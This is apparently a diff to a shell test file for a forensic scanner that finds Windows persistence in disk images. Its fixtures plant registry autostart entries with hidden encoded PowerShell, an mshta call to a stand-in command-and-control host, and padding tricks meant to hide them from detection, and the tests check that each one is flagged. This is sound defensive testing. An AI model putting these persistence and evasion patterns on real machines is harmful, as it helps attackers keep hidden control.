@@ -222,6 +222,7 @@ task() {
 [HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]
 "SecurityHealth"="%windir%\\\\system32\\\\SecurityHealthSystray.exe"
 "Updater"="powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
+"Pad"="cmd /c $(printf '%2100s' '') powershell -enc SQBFAFgA"
 
 [HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run]
 "Helper"="\\"C:\\\\Users\\\\Public\\\\helper.exe\\" /silent"
@@ -239,11 +240,13 @@ REG
 [HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\WinUpdSvc]
 "ImagePath"="C:\\Users\\alice\\AppData\\Roaming\\svc\\svchost.exe"
 REG
-    hive "$IMG2/Users/alice/NTUSER.DAT" 'HKEY_CURRENT_USER' <<'REG'
-[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]
-"com.squirrel.Teams.Teams"="C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\""
+    hive "$IMG2/Users/alice/NTUSER.DAT" 'HKEY_CURRENT_USER' <<REG
+[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
+"$(printf 'N%.0s' $(seq 5000))"="C:\\\\Windows\\\\notepad.exe"
+"Evil"="powershell -EncodedCommand SQBFAFgA"
+"com.squirrel.Teams.Teams"="C:\\\\Users\\\\alice\\\\AppData\\\\Local\\\\Microsoft\\\\Teams\\\\Update.exe --processStart \\"Teams.exe\\""
 
-[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce]
+[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce]
 "x"="mshta http://c2.example/a.hta"
 REG
     task 'Microsoft/Windows/Defrag/ScheduledDefrag' '%windir%\system32\defrag.exe' '-c -h -o -$'
@@ -257,15 +260,24 @@ REG
     validate "$OUT"
     run jq -r '[.traces[] | select(.kind == "persistence") | "\(.why)|\(.path)|\(.user // "-")"] | sort | .[]' "$OUT"
     printf '%s\n' "${lines[@]}"
-    [ "${#lines[@]}" -eq 6 ]
+    [ "${#lines[@]}" -eq 8 ]
     [ "${lines[0]}" = "download-exec|/Windows/System32/Tasks/Sync|-" ]
-    [ "${lines[1]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater|-' ]
-    [ "${lines[2]}" = "script-url|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x|alice" ]
-    [ "${lines[3]}" = "startup-program|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs|alice" ]
-    [ "${lines[4]}" = 'tmp-path|HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Helper|-' ]
-    [ "${lines[5]}" = 'user-dir|HKLM\SYSTEM\CurrentControlSet\Services\WinUpdSvc|-' ]
+    # a command padded past the first kilobytes is still judged whole
+    [ "${lines[1]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Pad|-' ]
+    [ "${lines[2]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater|-' ]
+    # a 5,000-character value name before it hides nothing
+    [ "${lines[3]}" = "encoded-exec|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil|alice" ]
+    [ "${lines[4]}" = "script-url|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x|alice" ]
+    [ "${lines[5]}" = "startup-program|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs|alice" ]
+    [ "${lines[6]}" = 'tmp-path|HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Helper|-' ]
+    [ "${lines[7]}" = 'user-dir|HKLM\SYSTEM\CurrentControlSet\Services\WinUpdSvc|-' ]
     jq -e '.traces[] | select(.why == "download-exec") | .text | contains("DownloadString(\u0027http://c2.example/a\u0027)")' "$OUT"
     jq -e '[.findings[] | select(.id == "TK-TRACE-PERSISTENCE")] | length == 1' "$OUT"
+    # --only autostart selects the collector by itself
+    run "$TENKEN" scan --root "$IMG2" --only host,users,autostart --out "$OUT" --no-progress
+    [ "$status" -eq 0 ]
+    validate "$OUT"
+    jq -e '[.traces[] | select(.kind == "persistence")] | length == 8' "$OUT"
     # --no-traces: none looked for
     run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
     [ "$status" -eq 0 ]
